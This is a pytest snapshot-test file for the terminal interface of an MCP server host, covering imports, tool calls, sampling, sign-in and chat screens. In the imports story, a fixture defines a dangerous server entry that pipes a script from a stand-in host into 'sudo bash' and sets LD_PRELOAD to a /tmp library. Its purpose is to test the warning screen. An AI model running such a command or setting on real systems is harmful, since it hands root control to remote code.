"""Each screen: every cell's text and style, compared with what is stored in ``snapshots``.

``pytest tests/tui/test_snapshots.py --update-snapshots`` stores what the screens show now.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from textual.command import CommandPalette

from mcphost.auth.ports import AuthorizationLink
from mcphost.cli.commands.screen import HOW_TO
from mcphost.errors import Declined
from mcphost.host.comparison.observation import Exchange
from mcphost.host.comparison.report import compare_sides
from mcphost.places import CALLS_FILE, users_path, with_tilde
from mcphost.transports.base import ProcessUsageReport
from mcphost.tui.chat.dialogs import ChatsScreen, PreviewScreen
from mcphost.tui.chat.tools import ChatToolsScreen
from mcphost.tui.comparison.screen import ComparisonScreen
from mcphost.tui.consent.argument_rule import ArgumentRuleScreen
from mcphost.tui.consent.grants import GrantsScreen
from mcphost.tui.consent.result_review import ResultScreen
from mcphost.tui.elicitation.form import FormElicitationScreen
from mcphost.tui.elicitation.url import UrlElicitationScreen
from mcphost.tui.forms.edit_arguments import EditArgumentsScreen
from mcphost.tui.imports.form import EditServerScreen
from mcphost.tui.imports.line_screen import ServerLineScreen
from mcphost.tui.inbox.screen import InboxScreen
from mcphost.tui.kit.export import SaveScreen
from mcphost.tui.kit.reader import ReaderScreen
from mcphost.tui.main.help import HelpScreen
from mcphost.tui.results.links import LinksScreen
from mcphost.tui.results.picture_view import PictureScreen
from mcphost.tui.roots.screen import RootsScreen
from mcphost.tui.sampling.dialogs import LimitsScreen, ModelScreen, RefusalScreen
from mcphost.tui.saved_calls.name import CallNameScreen
from mcphost.tui.saved_calls.screen import SavedCallsScreen
from mcphost.tui.servers.reload import ReloadScreen
from mcphost.tui.start_info import ReloadedConfig, StartInfo
from mcphost.tui.tasks.screen import TasksScreen
from tests.executables import write_executable
from tests.host.chat.scripted_model import text, use, uses
from tests.host.sampling.sampling_host import create
from tests.host.server_requests.pending import ROOTS, form, page
from tests.screen_text import says
from tests.tui import stage as stage_module
from tests.tui.chat.chats import chatting
from tests.tui.elicitation.questions import EVERY, ask, at, question_stage
from tests.tui.imports.homes import claude_code, cursor, importing_stage, vscode
from tests.tui.pictured import FOLDER, Snapshots
from tests.tui.sampling.samplings import ASKED, sampling_stage
from tests.tui.sign_in.sign_ins import PAGE, REDIRECT, ScriptedPort, at_sign_in, signing
from tests.tui.skills.skills import asked, edit, load
from tests.tui.skills.skills import go as go_to_skills
from tests.tui.skills.skills import skills as skills_of_the_harbour
from tests.tui.stage import Stage, demo, on_stage
from tests.tui.still_clock import NOW, stop_clock

pytestmark = pytest.mark.slow
WIDE = (140, 40)
LARGE = (200, 60)


@pytest.fixture(autouse=True)
def same_every_time(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Times stand still, and the folder, Python and the servers have paths that are as long everywhere."""
    folder = Path(tempfile.mkdtemp(prefix="mcphost-", dir="/tmp"))
    write_executable(folder / "python", [sys.executable])
    (folder / "servers").symlink_to(stage_module.SERVERS)
    (folder / "home" / "work").mkdir(parents=True)
    monkeypatch.setattr(stage_module, "short_folder", lambda: folder)
    monkeypatch.setenv("HOME", str(folder / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder / "home" / ".config"))
    monkeypatch.setenv("COLORTERM", "truecolor")
    monkeypatch.chdir(folder / "home" / "work")
    monkeypatch.setattr(secrets, "randbelow", lambda limit: limit // 2)  # ids of requests begin there
    stop_clock(monkeypatch)
    yield
    monkeypatch.undo()
    time.tzset()
    shutil.rmtree(folder, ignore_errors=True)


async def run(stage: Stage, words: str, answer: str = "y") -> None:
    """Run a tool of the demo, as its form is."""
    await stage.open_tool(words)
    await stage.press("ctrl+r")
    await stage.call_dialog()
    await stage.press("space", "space", answer)
    await stage.ended()


async def described(stage: Stage) -> None:
    """Wait until the servers are ready, and the tool under the cursor is described, as it is before any call."""
    await stage.ready()
    await stage.until(lambda _: says(stage.text, "enter runs it") or says(stage.text, "enter opens the form"))


async def servers_and_tools(snapshots: Snapshots) -> None:
    async with on_stage(size=WIDE) as stage:
        await described(stage)
        stage.host.process_usage._measure = lambda pid: ProcessUsageReport(1, 20_000_000, 0.0)
        stage.host.servers["demo"].keepalive.begin(0.038)
        await snapshots.take(stage, "tools", LARGE)
        await stage.press("s", "down")
        await snapshots.take(stage, "servers")
        await stage.press("c")
        await snapshots.take(stage, "card")
        await stage.open_tool("keep_logbook")
        await snapshots.take(stage, "form", LARGE)
        await stage.press("escape")
        await stage.open_tool("tear_out_pages")
        await stage.press("ctrl+r")
        await stage.call_dialog()
        await snapshots.take(stage, "call-that-destroys", LARGE)
        await stage.press("d")
        await stage.at(ReaderScreen)
        await snapshots.take(stage, "reader")
        await stage.press("escape", "y")
        await stage.ended()
        await run(stage, "ask_ghost")
        await snapshots.take(stage, "result-error")
        await run(stage, "fetch_chart")
        await snapshots.take(stage, "result-link")
        await stage.open_tool("ships_in_sight")
        await stage.press("ctrl+r")
        await stage.call_dialog()
        await snapshots.take(stage, "call")
        await stage.press("a")
        await stage.ended()
        await snapshots.take(stage, "result", LARGE)
        await stage.press("h")
        await snapshots.take(stage, "calls")
        await stage.press("g")
        await stage.at(GrantsScreen)
        await snapshots.take(stage, "grants")
        await stage.press("escape", "f3")
        await snapshots.take(stage, "logs")


async def first_start(snapshots: Snapshots) -> None:
    own = Path.home() / ".config" / "mcphost" / "config.toml"
    how_to = HOW_TO.format(file=with_tilde(own), then="and press ctrl+l. y copies these lines")
    state = Path("state")
    async with on_stage(size=WIDE, start=StartInfo(None, True, (), state, how_to, missing=own)) as stage:
        await stage.ready()
        await snapshots.take(stage, "demo")
    start = StartInfo(own, False, (), state, how_to)
    async with on_stage(stage_module.servers(), state, size=WIDE, start=start) as stage:
        await stage.shows("Add a server")
        await snapshots.take(stage, "no-servers")


async def imports(snapshots: Snapshots) -> None:
    """Nothing is added, so that none of these programs is run."""
    token = {"GITHUB_TOKEN": "ghp_0123456789abcdefABCDEF0123456789abcd", "MODE": "read-only"}
    script = "curl -fsSL https://get.example/mcp.sh | sudo bash && exec /tmp/mcp-helper --root /"
    dsn = {"type": "promptString", "id": "dsn", "description": "Address of the database", "password": True}
    claude_code(
        notes={"command": "npx", "args": ["-y", "@example/server-files@1.2.3", "/home/ada/notes"], "autoApprove": []},
        github={"command": "npx", "args": ["-y", "@example/server-github"], "env": token},
        helper={"command": "bash", "args": ["-c", script], "env": {"LD_PRELOAD": "/tmp/x.so"}},
    )
    vscode(
        [dsn],
        db={"command": "uvx", "args": ["example-postgres==0.6.2"], "env": {"DSN": "${input:dsn}"}},
        socket={"type": "ws", "url": "wss://mcp.example"},
    )
    cursor(github={"command": "npx", "args": ["-y", "@example/server-github"], "env": token})
    async with importing_stage() as stage:
        await stage.ready()
        await stage.shows("Claude Code has 3 servers")
        await snapshots.take(stage, "start")
        await stage.open_found_servers()
        await snapshots.take(stage, "found")
        await stage.press("enter")
        for name in ("plain", "secret", "danger", "asked"):
            await stage.asked()
            await snapshots.take(stage, name)
            if name == "asked":
                await stage.press("e")
                await stage.at(EditServerScreen)
                await snapshots.take(stage, "edit")
                await stage.press("escape")
                await stage.asked()
            await stage.press("n")
        await stage.gone()
    async with importing_stage(stage_module.echo()) as stage:
        await stage.press("s", "a")
        await stage.at(ServerLineScreen)
        await snapshots.take(stage, "line")


PARTS = {
    "name": "order",
    "description": "Orders parts.",
    "inputSchema": {
        "type": "object",
        "properties": {
            "customer": {"type": "string", "description": "Who pays"},
            "lines": {
                "type": "array",
                "description": "What is ordered",
                "items": {
                    "type": "object",
                    "properties": {
                        "sku": {"type": "string", "description": "As in the catalogue"},
                        "qty": {"type": "integer", "minimum": 1},
                        "urgent": {"type": "boolean"},
                    },
                    "required": ["sku", "qty"],
                },
            },
            "labels": {"type": "object", "additionalProperties": {"type": "string"}},
            "delivery": {
                "anyOf": [
                    {"title": "by post", "type": "object", "properties": {"street": {"type": "string"}}},
                    {"title": "picked up", "type": "object", "properties": {"day": {"type": "string"}}},
                ]
            },
        },
        "required": ["customer", "lines"],
    },
}


async def forms_and_changes(snapshots: Snapshots) -> None:
    config = stage_module.servers(shop=stage_module.server("given.py", "--given", json.dumps([PARTS])))
    async with on_stage(config, size=WIDE) as stage:
        await described(stage)
        await stage.open_tool("order")
        await stage.write("Ada")
        await stage.press("enter", "tab")
        await snapshots.take(stage, "rows")
    async with on_stage(size=WIDE) as stage:
        await described(stage)
        await run(stage, "flash_lamp", "u")
        await run(stage, "fit_lens")
        await stage.open_tool("flash_lamp")
        await stage.press("ctrl+r")
        await stage.call_dialog()
        await snapshots.take(stage, "changed-definition")


async def resources_and_prompts(snapshots: Snapshots) -> None:
    async with on_stage(size=WIDE) as stage:
        await stage.ready()
        await stage.press("e")
        await stage.shows("Resources · ", "A ship")
        await snapshots.take(stage, "resources")
        await stage.press("slash")
        await stage.write("handbook")
        await stage.press("down", "enter")
        await stage.shows("Rules for every watch")
        await snapshots.take(stage, "resource")
        await stage.press("l")
        await stage.at(LinksScreen)
        await snapshots.take(stage, "links")
        await stage.press("escape", "w")
        await stage.at(SaveScreen)
        await snapshots.take(stage, "save")
        await stage.press("escape", "escape", "slash")
        await stage.write("ship")
        await stage.press("down", "enter")
        await stage.shows("kind *")
        await snapshots.take(stage, "resource-template")
        await stage.press("escape", "slash")
        await stage.write("dusk")
        await stage.press("down", "enter")
        await stage.shows("image/png")
        await snapshots.take(stage, "resource-picture")
        await stage.press("enter")
        await stage.at(PictureScreen)
        await snapshots.take(stage, "picture")
        await stage.press("escape", "escape", "p")
        await stage.shows("Prompts · ", "Report of a watch", "Whose watch it was")  # described once the cursor rests
        await snapshots.take(stage, "prompts")
        await stage.press("enter")
        await stage.shows("Watch *", "middle")
        await stage.press("down", "down", "enter", "enter")
        await stage.shows("▸ Tone", "homesick")
        await stage.press("ctrl+r")
        await stage.shows("Messages · ")
        await snapshots.take(stage, "prompt")


SAVED_CALLS = """\
[[call]]
name = "hello"
server = "echo"
tool = "echo"
arguments = { text = "hello, world" }

[[call]]
name = "sum"
server = "echo"
tool = "add"
arguments = { a = 1, b = 2 }

[[call]]
name = "guide"
server = "docs"
resource = "file:///docs/{page}"
arguments = { page = "guide.md" }

[[call]]
name = "review"
server = "docs"
promt = "review"
"""


async def around_the_main_screen(snapshots: Snapshots) -> None:
    saved = users_path(os.environ).with_name(CALLS_FILE)
    saved.parent.mkdir(parents=True)
    saved.write_text(SAVED_CALLS)
    async with on_stage(stage_module.echo(), size=WIDE) as stage:
        await described(stage)
        await stage.press("question_mark")
        await stage.at(HelpScreen)
        await snapshots.take(stage, "help")
        await stage.press("escape", "ctrl+p")
        await stage.at(CommandPalette)
        await snapshots.take(stage, "palette")
        await stage.press("escape", "A")
        await stage.at(SavedCallsScreen)
        await snapshots.take(stage, "saved-calls")
        await stage.press("enter")
        await stage.shows("▏hello, world")
        await stage.press("ctrl+s")
        await stage.at(CallNameScreen)
        await snapshots.take(stage, "save-call")
        await stage.press("escape", "escape")
        await stage.ended(stage.call("log", {"level": "warning", "logger": "x"}))
        for text, key in (("SELECT 1", "y"), ("SELECT secrets", "n"), ("DROP t", "n")):
            call = stage.call("echo", {"text": text})
            await stage.call_dialog()
            await stage.press(key)
            await stage.ended(call)
        await stage.press("f4")
        await stage.shows("Traffic · ", "tools/call")
        await stage.press("slash")
        await stage.write("tools/call")
        await stage.press("enter")
        await snapshots.take(stage, "traffic")
        await stage.press("enter")
        await snapshots.take(stage, "traffic-detail")
        await stage.press("t")
        call = stage.call("echo", {"text": "SELECT 2"})
        await stage.call_dialog()
        await stage.press("w")
        await stage.at(ArgumentRuleScreen)
        await stage.until(lambda _: "looking for past calls" not in stage.text)
        await snapshots.take(stage, "argument-rule")
        await stage.press("escape", "escape")
        await stage.call_dialog()
        await stage.press("e")
        await stage.at(EditArgumentsScreen)
        await snapshots.take(stage, "edit-arguments")
        await stage.press("escape", "p")
        await stage.gone()
        await stage.press("f2")
        await stage.at(InboxScreen)
        await snapshots.take(stage, "inbox")
        await stage.press("escape")
        after = stage_module.servers(same=stage_module.server("echo.py"), fresh=stage_module.server("asks.py"))
        stage.app._reread = lambda: ReloadedConfig(after)
        await stage.press("ctrl+l")
        await stage.at(ReloadScreen)
        await snapshots.take(stage, "reload")
        await stage.press("n")
        call.cancel()
        await stage.ended(call)


async def what_servers_ask(snapshots: Snapshots) -> None:
    async with question_stage(size=WIDE) as stage:
        await described(stage)
        call = ask(stage, form(EVERY, message="Who is it?"))
        await at(stage, FormElicitationScreen)
        await snapshots.take(stage, "form")
        await stage.write("Ada")
        await stage.press("ctrl+r")
        await stage.shows("Send this to “a”?")
        await snapshots.take(stage, "form-review")
        await stage.press("n")
        await stage.ended(call)
        call = ask(stage, page())
        await at(stage, UrlElicitationScreen)
        await snapshots.take(stage, "page")
        await stage.press("y")
        await stage.shows("the server has not said that it is done")
        await snapshots.take(stage, "page-opened")
        await stage.press("escape")
        await stage.gone()
        os.makedirs("src/deep")
        call = ask(stage, ROOTS)
        await at(stage, RootsScreen)
        await stage.until(lambda _: "reading…" not in stage.text)
        await snapshots.take(stage, "folders")
        await stage.press("n")
        await stage.ended(call)


async def sampling(snapshots: Snapshots) -> None:
    async with sampling_stage(size=WIDE) as stage:
        await described(stage)
        call, _ = await stage.request_sampling(ASKED)
        await snapshots.take(stage, "request")
        await stage.press("l")
        await stage.at(LimitsScreen)
        await snapshots.take(stage, "limits")
        await stage.press("escape", "m")
        await stage.at(ModelScreen)
        await snapshots.take(stage, "model")
        await stage.press("escape", "y")
        await stage.listens()
        await snapshots.take(stage, "answer")
        await stage.press("t")
        await stage.at(RefusalScreen)
        await snapshots.take(stage, "refuse")
        await stage.press("enter")
        await stage.ended(call)
        call, _ = await stage.request_sampling(create())
        await stage.press("m")
        await stage.at(ModelScreen)
        await stage.press("end", "enter")
        await stage.listens()
        await snapshots.take(stage, "by-hand")
        await stage.press("y")
        await stage.shows("write the answer")
        await snapshots.take(stage, "write-answer")
        call.cancel()
        await stage.ended(call)


async def tasks(snapshots: Snapshots) -> None:
    config = stage_module.servers(errands=stage_module.server("errands.py"))
    async with on_stage(config, size=WIDE) as stage:
        await described(stage)
        call = stage.call("research", {"polls": 100_000, "interval": 60_000})
        await stage.call_dialog()
        await stage.press("y")
        await stage.until(lambda _: call.task)
        await stage.press("T")
        await stage.at(TasksScreen)
        await stage.shows("task-1")
        await snapshots.take(stage, "tasks")
        await stage.press("enter")
        await stage.gone()
        await snapshots.take(stage, "running")
        call.cancel()
        await stage.ended(call)


async def comparison(snapshots: Snapshots) -> None:
    async with on_stage(size=WIDE) as stage:
        await described(stage)
        await run(stage, "ships_in_sight")
        await stage.press("c", "C")
        await stage.at(ComparisonScreen)
        await stage.shows("in both eras", "revision")
        screen = stage.app.screen
        assert isinstance(screen, ComparisonScreen)
        assert screen._seen is not None
        first, second = screen._seen
        passed = Exchange(14, 600, 14_000)
        screen.report = compare_sides(*(replace(each, seconds=0.25, opening=passed) for each in (first, second)))
        screen._show_rows()
        await stage.pilot.pause()
        await snapshots.take(stage, "eras")
        await stage.press("escape")
        await stage.gone()


async def sign_in(snapshots: Snapshots) -> None:
    port = ScriptedPort(link=AuthorizationLink(PAGE, REDIRECT, 86_400 * 3.5))  # it is counted down, in days and hours
    async with signing(port, size=WIDE) as stage:
        await at_sign_in(stage)
        await stage.shows("don't sign in")
        await snapshots.take(stage, "agree")
        await stage.press("y")
        await stage.shows("waiting for the browser to come back")
        await snapshots.take(stage, "visit")
        await stage.press("l")
        await snapshots.take(stage, "steps")


async def skills(snapshots: Snapshots) -> None:
    async with on_stage(skills_of_the_harbour(), size=WIDE) as stage:
        await go_to_skills(stage)
        await stage.shows("frontmatter")
        await snapshots.take(stage, "list", LARGE)
        await stage.press("enter")
        await stage.shows("✓ verified")
        await snapshots.take(stage, "reader", LARGE)
        loading = load(stage)
        await asked(stage)
        await snapshots.take(stage, "question", LARGE)
        await stage.press("u")
        await loading
        await edit(stage, published=False)
        await stage.press("I", "enter")
        await stage.shows("✓ verified")
        await stage.press("shift+tab", "down", "enter")
        await stage.shows("✖ refused")
        await snapshots.take(stage, "refused")
        await edit(stage, published=True)
        await stage.shows("✱ changed")
        loading = load(stage)
        await asked(stage)
        await snapshots.take(stage, "changed", LARGE)
        await stage.press("n")
        with pytest.raises(Declined):
            await loading


def date_conversations() -> None:
    """As if they had been written now."""
    for path in Path("state", "chats").glob("*"):
        os.utime(path, (NOW, NOW))


async def chat(snapshots: Snapshots) -> None:
    held = uses(use("demo__read_instruments", "1"), say="I look at the **instruments** first.")
    asks = uses(use("demo__ships_in_sight", "2", kind="any"), say="Then out of the window.")
    script = held, asks, text("# A quiet night\n\n- two ships\n- *no* fog\n\n```\nls -l\n```")
    async with chatting(*script, chat={"hold": "always"}, size=WIDE) as stage:
        await snapshots.take(stage, "empty")
        await stage.press("ctrl+t")
        await stage.at(ChatToolsScreen)
        await snapshots.take(stage, "tools")
        await stage.press("escape")
        await stage.write("look at @hand")
        await stage.shows("tab accepts")
        await snapshots.take(stage, "suggestions")
        await stage.press("enter", "ctrl+g")
        await stage.at(PreviewScreen)
        await snapshots.take(stage, "preview")
        await stage.press("escape")
        await stage.gone()
        await stage.press("enter")
        await stage.call_dialog()
        await snapshots.take(stage, "call")
        await stage.press("space", "space", "y")
        await stage.at(ResultScreen)
        await snapshots.take(stage, "held-result")
        await stage.press("y")
        await stage.call_dialog()
        await stage.press("n")
        await stage.rest()
        await snapshots.take(stage, "answer")
        await stage.press("escape", "k", "k", "enter")
        await snapshots.take(stage, "card")
        date_conversations()
        await stage.press("f8")
        await stage.at(ChatsScreen)
        await snapshots.take(stage, "chats")


async def in_theme(snapshots: Snapshots, name: str) -> None:
    """The things that every theme must distinguish: focus, cursor, muted text, danger, a warning, values of JSON."""
    config = demo()
    async with on_stage(
        config.model_copy(update={"ui": config.ui.model_copy(update={"theme": name})}), size=WIDE
    ) as stage:
        await described(stage)
        await stage.open_tool("tear_out_pages")
        await stage.press("ctrl+r")
        await stage.call_dialog()
        await snapshots.take(stage, "call-that-destroys")
        await stage.press("n")
        await stage.ended()
        await stage.open_tool("keep_logbook")
        await stage.press("tab")
        await snapshots.take(stage, "form")
        await stage.press("escape")
        await run(stage, "ships_in_sight")
        await snapshots.take(stage, "result")


async def theme_light(snapshots: Snapshots) -> None:
    await in_theme(snapshots, "mcphost-light")


async def theme_of_sixteen_colours(snapshots: Snapshots) -> None:
    await in_theme(snapshots, "mcphost-16")


STORIES: dict[str, Callable[[Snapshots], Awaitable[None]]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        first_start,
        imports,
        servers_and_tools,
        forms_and_changes,
        resources_and_prompts,
        around_the_main_screen,
        what_servers_ask,
        sampling,
        tasks,
        comparison,
        sign_in,
        skills,
        chat,
        theme_light,
        theme_of_sixteen_colours,
    )
}


@pytest.mark.parametrize("name", STORIES)
async def test_screens_look_as_they_are_stored(name: str, request: pytest.FixtureRequest) -> None:
    snapshots = Snapshots(name, request.config.getoption("--update-snapshots", default=False))
    await STORIES[name](snapshots)
    snapshots.check()


def test_each_stored_snapshot_belongs_to_a_story() -> None:
    assert {folder.name for folder in FOLDER.iterdir()} == set(STORIES)
